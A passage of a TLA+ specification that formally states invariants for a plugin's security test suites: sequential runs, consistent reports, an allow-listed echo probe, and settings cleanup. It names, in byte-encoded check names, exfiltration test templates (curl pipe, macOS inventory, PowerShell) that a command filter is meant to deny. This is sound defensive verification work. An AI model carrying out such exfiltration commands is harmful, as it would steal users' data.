      [] api = "settings.delete" -> {<<115, 101, 116, 116, 105, 110, 103, 115, 95, 114, 111, 117, 110, 100, 116, 114, 105, 112>>, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 98, 97, 116, 99, 104, 95, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115>>}
      [] api = "dataverse.execute" -> {<<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 101, 120, 101, 99, 117, 116, 101, 95, 119, 104, 111, 97, 109, 105>>}
      [] api = "dataverse.queryData" -> {<<100, 97, 116, 97, 118, 101, 114, 115, 101, 95, 113, 117, 101, 114, 121, 95, 114, 101, 97, 100, 111, 110, 108, 121>>}

\* The suite at local.suite has pushed its last result
SuiteFinished == local.suite # "none" /\ pc \in {"suite_notify", "returned", "done"}

RecordedAsFail(call, array) ==
    \E k \in 1..Len(array) :
        /\ array[k].name \in CheckNamesOf(call.api)
        /\ array[k].status = "fail"
        /\ Includes(array[k].details, CapabilityError)

\* C12: a capability failure inside a suite is not re-raised; it is recorded
\* as a Fail result of the check that made the call, the error message
\* embedded in details.
C12_FailureRecordedWithMessage ==
    SuiteFinished =>
        \A i \in 1..Len(suiteCalls) :
            suiteCalls[i].settled = "rejected" => RecordedAsFail(suiteCalls[i], results)


\* What runAllSuites makes of the five suites when each is called once the
\* one before it has returned
SequentialProgress ==
    [k \in 1..(2 * Len(SuiteNames)) |->
        <<IF k % 2 = 1 THEN "start" ELSE "return", SuiteNames[(k + 1) \div 2]>>]

IsPrefixOf(s, t) == Len(s) <= Len(t) /\ SubSeq(t, 1, Len(s)) = s

CombinedNotifications ==
    SelectSeq(notifications, LAMBDA n : n.title = "All Security Suites Completed")

\* C13: runAllSuites runs the five suites one after another in the order
\* terminal, filesystem, events, settings, dataverse: a suite starts only
\* when the one before has returned, no per-suite completion notification
\* is issued, and the one combined notification is issued only after the
\* fifth suite has returned.
C13_RunAllSequentialOneNotification ==
    entry = "all" =>
        /\ IsPrefixOf(progress, SequentialProgress)
        /\ CompletedNotifications = <<>>
        /\ Len(CombinedNotifications) <= 1
        /\ CombinedNotifications # <<>> => progress = SequentialProgress
        /\ pc = "done" => Len(CombinedNotifications) = 1

\* A complete runAllSuites, the terminal having been created on the way
C13_Witness ==
    /\ entry = "all"
    /\ pc = "done"
    /\ progress = SequentialProgress
    /\ Len(returned) = Len(SuiteNames)
    /\ Len(notifications) = 2
    /\ notifications[1].title = "Terminal Created"
    /\ notifications[2].title = "All Security Suites Completed"


CallsOf(api) == SelectSeq(suiteCalls, LAMBDA call : call.api = api)

DataverseCalls ==
    SelectSeq(suiteCalls, LAMBDA call : call.api \notin
        {"terminal.create", "terminal.execute", "events.on", "fileSystem.readText",
         "settings.set", "settings.get", "settings.setAll", "settings.getAll",
         "settings.delete"})

\* C14: no suite issues a destructive operation.  Every command a suite
\* passes to the terminal execute capability is the allow-listed
\* "echo PPTB_SECURITY_PROBE"; no filesystem capability is invoked; the
\* dataverse suite calls nothing but execute (WhoAmI) and queryData (the
\* accounts listing), each at most once and only with a current connection.
C14_NoDestructiveOperation ==
    /\ \A i \in 1..Len(suiteCalls) :
           suiteCalls[i].api = "terminal.execute" =>
               /\ suiteCalls[i].arg = ProbeCommand
               /\ SetHas(TERMINAL_ALLOWED_COMMANDS, suiteCalls[i].arg)
    /\ \A call \in executeCalls : SetHas(TERMINAL_ALLOWED_COMMANDS, call[2])
    /\ CallsOf("fileSystem.readText") = <<>>
    /\ readTextCalls = {}
    /\ \A i \in 1..Len(DataverseCalls) :
           \/ DataverseCalls[i].api = "dataverse.execute" /\ DataverseCalls[i].arg = WhoAmIRequest
           \/ DataverseCalls[i].api = "dataverse.queryData" /\ DataverseCalls[i].arg = AccountsQuery
    /\ Len(CallsOf("dataverse.execute")) <= 1
    /\ Len(CallsOf("dataverse.queryData")) <= 1
    /\ ~currentConnection => DataverseCalls = <<>>

\* A complete runAllSuites with a connection: the burst went to the terminal
\* and the dataverse suite made its two queries
C14_Witness ==
    /\ entry = "all"
    /\ pc = "done"
    /\ currentConnection
    /\ \E terminal \in TerminalIds : <<terminal, ProbeCommand>> \in executeCalls
    /\ Len(CallsOf("dataverse.execute")) = 1
    /\ Len(CallsOf("dataverse.queryData")) = 1
    /\ readTextCalls = {}


NamesOf(array) == [i \in 1..Len(array) |-> array[i].name]

\* The results a terminal suite run has returned
TerminalReturns ==
    {returned[k].results : k \in {j \in 1..Len(returned) : returned[j].suite = "terminal"}}

\* What a step at which a terminal suite run returns hands back
TerminalReturnAsFixed ==
    \A array \in TerminalReturns' \ TerminalReturns :
        /\ Len(array) = Len(TERMINAL_ALLOWED_COMMANDS) + Len(TERMINAL_BLOCKED_TOKENS) + 9
        /\ NamesOf(array) = NamesOf(TerminalPolicyChecks) \o <<BurstProbeName>>

\* C15: a terminal suite run returns exactly N + M + 9 results, N the
\* number of allowed commands and M the number of blocked tokens, whatever
\* the terminal capability did, and the names of the results are the same
\* sequence in every run.  Stated of every step at which a terminal suite
\* run returns.
C15_TerminalResultCountAndNames == [][TerminalReturnAsFixed]_vars

\* A run whose terminal could not be created has returned
C15_Witness ==
    /\ TerminalReturns # {}
    /\ local.suite = "terminal"
    /\ pc \in {"returned", "done"}
    /\ suiteCalls = <<[api |-> "terminal.create", arg |-> <<>>, settled |-> "rejected"]>>
    /\ results[Len(results)].status = "fail"


Distinct(names) == \A i, j \in 1..Len(names) : names[i] = names[j] => i = j

\* C16: in the result sequence a suite run returns, no two results have
\* the same name.
C16_NamesUniquePerRun ==
    \A k \in 1..Len(returned) : Distinct(NamesOf(returned[k].results))


CountOf(array, resultStatus) ==
    Cardinality({i \in 1..Len(array) : array[i].status = resultStatus})

ConsistentReport(report, array) ==
    /\ report.summary.total = Len(array)
    /\ report.summary.failed = CountOf(array, "fail")
    /\ report.summary.passed = CountOf(array, "pass")
    /\ report.summary.passed + report.summary.failed = report.summary.total
    /\ report.summary.highestSeverity = getHighestSeverity(array)
    /\ report.results = sortResultsForTriage(array).value

ConsistentRollup(report, suiteResults) ==
    /\ Len(report.suites) = Len(SuiteNames)
    /\ \A k \in 1..Len(report.suites) :
           /\ report.suites[k].suite = SuiteNames[k]
           /\ report.suites[k].total = Len(suiteResults[k].results)
           /\ report.suites[k].failed = CountOf(suiteResults[k].results, "fail")
    /\ report.summary.total = SumOf([k \in 1..Len(report.suites) |-> report.suites[k].total])
    /\ report.summary.failed = SumOf([k \in 1..Len(report.suites) |-> report.suites[k].failed])
    /\ report.summary.passed + report.summary.failed = report.summary.total
    /\ IsMaximumSeverity(Concatenated([k \in 1..Len(suiteResults) |-> suiteResults[k].results]),
                         report.summary.highestSeverity)

\* The step writes a report to the element
Renders(id) == output'[id] # output[id] /\ output'[id].text = "report"

ReportsConsistentWhenRendered ==
    /\ \A k \in 1..Len(SuiteNames) :
           Renders(OutputIdOf(SuiteNames[k])) =>
               /\ local.suite = SuiteNames[k]
               /\ ConsistentReport(output'[OutputIdOf(SuiteNames[k])].report, results')
    /\ Renders("overall-suite-output") =>
           ConsistentRollup(output'["overall-suite-output"].report, returned)

\* C20: every report rendered has a consistent summary: total is the number
\* of results, failed the number of Fail results, passed the number of Pass
\* results, passed + failed = total, highestSeverity the highest severity of
\* the results and results the results sorted for triage; in the all-suites
\* rollup total and failed are the sums of the five subtotals and
\* highestSeverity is the maximum severity over all five suites' results.
C20_ReportSummaryConsistent == [][ReportsConsistentWhenRendered]_vars

\* A complete runAllSuites whose rollup counts failures and passes
C20_Witness ==
    /\ entry = "all"
    /\ pc = "done"
    /\ output["overall-suite-output"].text = "report"
    /\ output["overall-suite-output"].report.summary.failed > 0
    /\ output["overall-suite-output"].report.summary.passed > 0
    /\ \A k \in 1..Len(SuiteNames) : output[OutputIdOf(SuiteNames[k])].text = "report"


-----------------------------------------------------------------------------
(* Malformed terminal event payloads                                       *)

\* The payloads of the claim: undefined, null, or not an object
NotAnObject(data) == data.type # "object"

EventResultsOf(array, name) == {i \in 1..Len(array) : array[i].name = name}

MalformedChecksPass(array) ==
    \A name \in {<<101, 118, 101, 110, 116, 115, 95, 109, 97, 108, 102, 111, 114, 109, 101, 100, 95, 116, 101, 114, 109, 105, 110, 97, 108, 95, 111, 117, 116, 112, 117, 116>>, <<101, 118, 101, 110, 116, 115, 95, 109, 97, 108, 102, 111, 114, 109, 101, 100, 95, 116, 101, 114, 109, 105, 110, 97, 108, 95, 99, 111, 109, 112, 108, 101, 116, 101, 100>>} :
        /\ EventResultsOf(array, name) # {}
        /\ \A i \in EventResultsOf(array, name) : array[i].status = "pass"

\* C21: handleTerminalOutput and handleCommandCompleted, called with an
\* undefined, null or non-object payload, with or without a current terminal,
\* do not throw and leave the terminal output as it was; every events suite
\* run that has rendered recorded Pass for both malformed-payload checks.
C21_MalformedPayloadsAbsorbed ==
    /\ (handled.handler # "none" /\ NotAnObject(handled.data)) =>
           (~handled.threw /\ terminalOutput = handled.before)
    /\ pc \in {"suite_notify", "done"} => MalformedChecksPass(results)

C21_Witness ==
    /\ handled.handler = "handleCommandCompleted"
    /\ handled.data = JsNull
    /\ currentTerminal # "none"
    /\ terminalOutput.textContent # <<>>
    /\ pc = "done"


-----------------------------------------------------------------------------
(* One result per settings check                                           *)

SettingsCheckNames == {<<115, 101, 116, 116, 105, 110, 103, 115, 95, 97, 112, 105, 95, 115, 117, 114, 102, 97, 99, 101>>, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 114, 111, 117, 110, 100, 116, 114, 105, 112>>, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 98, 97, 116, 99, 104, 95, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115>>}

ResultsNamed(array, name) == {i \in 1..Len(array) : array[i].name = name}

\* C22: in every settings suite run that returned, each of the checks
\* settings_api_surface, settings_roundtrip and settings_batch_operations
\* contributed exactly one result, whatever the settings capability did.
C22_OneResultPerSettingsCheck ==
    \A i \in 1..Len(returned) :
        (returned[i].suite = "settings" /\ SettingsHas(<<115, 101, 116>>) /\ SettingsHas(<<103, 101, 116>>)) =>
            \A name \in SettingsCheckNames :
                Cardinality(ResultsNamed(returned[i].results, name)) = 1


-----------------------------------------------------------------------------
(* The exfiltration templates of the terminal suite                        *)

ExfilTemplates ==
    { [name |-> <<99, 111, 109, 109, 97, 110, 100, 95, 108, 111, 99, 97, 108, 95, 100, 97, 116, 97, 95, 112, 105, 112, 101, 95, 116, 111, 95, 99, 117, 114, 108>>, command |-> CurlExfilCommand],
      [name |-> <<99, 111, 109, 109, 97, 110, 100, 95, 109, 97, 99, 111, 115, 95, 105, 110, 118, 101, 110, 116, 111, 114, 121, 95, 101, 120, 102, 105, 108>>, command |-> MacInventoryCommand],
      [name |-> <<99, 111, 109, 109, 97, 110, 100, 95, 112, 111, 119, 101, 114, 115, 104, 101, 108, 108, 95, 101, 120, 102, 105, 108>>, command |-> PsExfilCommand] }

PassCriticalWhenDenied(array) ==
    \A template \in ExfilTemplates :
        ~getBlockedCommandReason(template.command).isNull =>
            /\ ResultsNamed(array, template.name) # {}
            /\ \A i \in ResultsNamed(array, template.name) :
                   array[i].status = "pass" /\ array[i].severity = "critical"

\* C23: in every terminal suite run that returned, each exfiltration
\* template check whose command evaluateCommand denies has status Pass and
\* severity Critical.
C23_ExfilTemplatesPassWhenDenied ==
    \A i \in 1..Len(returned) :
        returned[i].suite = "terminal" => PassCriticalWhenDenied(returned[i].results)


-----------------------------------------------------------------------------
(* Severity per check                                                      *)

AllReturnedResults ==
    UNION {{returned[i].results[j] : j \in 1..Len(returned[i].results)} : i \in 1..Len(returned)}

\* C24: any two results returned under the same check name, by the same run
\* or by different runs, whether Pass or Fail, carry the same severity.
C24_SeverityStaticPerCheck ==
    \A a \in AllReturnedResults : \A b \in AllReturnedResults :
        a.name = b.name => a.severity = b.severity


-----------------------------------------------------------------------------
(* The burst probe                                                         *)

ExecuteCallIndices == {i \in 1..Len(suiteCalls) : suiteCalls[i].api = "terminal.execute"}

BurstResults(array) == {i \in 1..Len(array) : array[i].name = BurstProbeName}

BurstYields(resultStatus) ==
    /\ Cardinality(BurstResults(results)) = 1
    /\ \A i \in BurstResults(results) : results[i].status = resultStatus

\* Each call is made only when every earlier call has resolved
OneAfterAnother ==
    \A i \in ExecuteCallIndices :
        /\ suiteCalls[i].arg = ProbeCommand
        /\ \A j \in 1..(i - 1) : suiteCalls[j].settled = "resolved"

\* C25: during a terminal suite run, the execute capability is called with
\* "echo PPTB_SECURITY_PROBE" only when all earlier calls have resolved, at
\* most five times; once a call has failed no call follows and the run ends
\* with one Fail burst result; a Pass burst result means five resolved calls;
\* when creating the terminal failed, execute is never called and the burst
\* result is Fail.
C25_BurstSequentialAndBounded ==
    local.suite = "terminal" =>
        /\ OneAfterAnother
        /\ Cardinality(ExecuteCallIndices) <= 5
        /\ (SuiteFinished /\ \E i \in ExecuteCallIndices : suiteCalls[i].settled = "rejected")
               => BurstYields("fail")
        /\ (\E i \in BurstResults(results) : results[i].status = "pass")
               => /\ Cardinality(ExecuteCallIndices) = 5
                  /\ \A i \in ExecuteCallIndices : suiteCalls[i].settled = "resolved"
        /\ (\E i \in 1..Len(suiteCalls) :
                suiteCalls[i].api = "terminal.create" /\ suiteCalls[i].settled = "rejected")
               => /\ ExecuteCallIndices = {}
                  /\ SuiteFinished
                  /\ BurstYields("fail")

C25_Witness ==
    /\ local.suite = "terminal"
    /\ pc = "done"
    /\ Cardinality(ExecuteCallIndices) = 3
    /\ suiteCalls[1].api = "terminal.create"
    /\ suiteCalls[Len(suiteCalls)].settled = "rejected"
    /\ BurstYields("fail")


-----------------------------------------------------------------------------
(* The shared handles across an invocation                                 *)

TerminalCreatedDuringRun ==
    \E i \in 1..Len(notifications) : notifications[i].title = "Terminal Created"

\* C26 as stated: once the entry point has completed, the current terminal
\* and the current connection are what they were when it was invoked.
C26_HandlesAsAtInvocation ==
    pc = "done" =>
        /\ currentTerminal = invoked.terminal
        /\ currentConnection = invoked.connection

\* C26: the current connection is never changed by an invocation; the
\* current terminal is changed only by a terminal suite run that found no
\* current terminal and whose terminal creation succeeded, and is then the
\* terminal created; otherwise it is what it was at the invocation.
C26_HandlesChangeOnlyByTerminalCreation ==
    /\ currentConnection = invoked.connection
    /\ IF TerminalCreatedDuringRun
       THEN /\ invoked.terminal = "none"
            /\ entry \in {"terminal", "all"}
            /\ currentTerminal # "none"
            /\ openTerminals = {currentTerminal}
       ELSE currentTerminal = invoked.terminal

C26_Witness ==
    /\ pc = "done"
    /\ entry = "all"
    /\ invoked.terminal = "none"
    /\ currentTerminal = "terminal-1"
    /\ invoked.connection


-----------------------------------------------------------------------------
(* Cleanup of the scratch key                                              *)

DeleteCallIndices(calls) == {i \in 1..Len(calls) : calls[i].api = "settings.delete"}

ExposesDelete == host.settings.present /\ <<100, 101, 108, 101, 116, 101>> \in host.settings.methods

SettingsRunOver == local.suite = "settings" /\ pc \in {"suite_notify", "returned", "done"}

\* A step of a settings suite run, as far as delete is concerned
DeletesOnceAtTheEnd ==
    /\ (SettingsRunOver' /\ ExposesDelete) =>
           /\ DeleteCallIndices(suiteCalls') = {Len(suiteCalls')}
           /\ suiteCalls'[Len(suiteCalls')].arg = tempKey
           /\ suiteCalls'[Len(suiteCalls')].settled \in {"resolved", "rejected"}
    /\ (local.suite = "settings" /\ DeleteCallIndices(suiteCalls') # DeleteCallIndices(suiteCalls)) =>
           /\ pc' = "settings_delete"
           /\ \A i \in 1..Len(suiteCalls) : suiteCalls'[i].settled \in {"resolved", "rejected"}
    /\ pc = "settings_delete" =>
           /\ pc' \in {"suite_notify", "returned"}
           /\ IsPermutationOf(results', results)
           /\ output'["settings-suite-output"].report # NoReport

\* C27: in every settings suite run on a host that exposes delete,
\* delete(scratch key) is called exactly once, as the last call, after every
\* other call has settled and every result has been recorded, whether the
\* checks passed, failed or threw; whether delete resolves or rejects, the
\* run goes on to its report with the same results.
C27_ScratchKeyDeletedOnce == [][DeletesOnceAtTheEnd]_vars

C27_Witness ==
    /\ SettingsRunOver
    /\ pc = "done"
    /\ Len(suiteCalls) = 4
    /\ suiteCalls[3].api = "settings.setAll"
    /\ suiteCalls[3].settled = "rejected"
    /\ suiteCalls[4] = [api |-> "settings.delete", arg |-> tempKey, settled |-> "rejected"]


-----------------------------------------------------------------------------
(* The text handed to the terminal                                         *)

IsControlUnit(unit) == unit < 32 \/ unit = 127

\* C28: every command toolbox.terminal.execute was called with is, code unit
\* for code unit, an entry of the allow-list, has no CR, LF or other control
\* character, and has no leading or trailing whitespace.
C28_ExecutedTextIsVettedText ==
    \A call \in executeCalls :
        /\ SetHas(TERMINAL_ALLOWED_COMMANDS_literal, call[2])
        /\ \A i \in 1..Len(call[2]) : ~IsControlUnit(call[2][i])
        /\ Trim(call[2]) = call[2]


-----------------------------------------------------------------------------
(* Terminals created, closed and used                                      *)

ExecuteIssued ==
    /\ Len(suiteCalls') > Len(suiteCalls)
    /\ suiteCalls'[Len(suiteCalls')].api = "terminal.execute"

\* C29: whatever the interleaving of a terminal suite run with the create
\* and close buttons, after every step each terminal created and not yet
\* closed is the current terminal, and no execute call is issued for a
\* terminal whose close has completed.
C29_NoOrphanNoUseAfterClose ==
    [][/\ openTerminals' \subseteq {currentTerminal'}
       /\ ExecuteIssued => local'.terminal \notin closedTerminals']_vars

\* A terminal is open that is not the current one
C29_Orphaned == ~(openTerminals \subseteq {currentTerminal})

\* The burst is sending to a terminal that has been closed
C29_UsedAfterClose ==
    /\ pc = "terminal_execute"
    /\ local.terminal \in closedTerminals
    /\ suiteCalls[Len(suiteCalls)].settled = "pending"


-----------------------------------------------------------------------------
(* What the settings suite leaves in the store                             *)

AllCallsResolved == \A i \in 1..Len(suiteCalls) : suiteCalls[i].settled = "resolved"

\* C30: when a settings suite run has completed on a host that exposes
\* delete and resolved every call, the settings store holds exactly the keys
\* and values it held when the run was invoked.
C30_SettingsStoreRestored ==
    (SettingsRunOver /\ ExposesDelete /\ AllCallsResolved) => store = invoked.store

====
